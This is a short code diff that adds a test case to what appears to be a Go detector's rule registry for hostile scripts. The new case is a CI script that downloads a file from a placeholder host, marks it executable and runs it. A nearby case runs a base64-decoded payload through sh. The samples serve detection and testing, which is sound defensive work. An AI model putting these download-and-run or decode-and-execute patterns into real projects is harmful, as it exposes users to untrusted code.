@@ -195,6 +195,8 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// A downloaded script named install is run, not coreutils' install.
+		{"ci/tools.sh", "curl -fsSL -o tools/install https://x.invalid/i\nchmod +x tools/install\n./tools/install --prefix /usr/local", 3, false},
 		// A package runner behind its subcommand (pipx run, uv tool run,
 		// pnpm dlx, npm exec) fetching from a git repository or a URL; the
 		// same runner with a registry package is an ordinary tool.
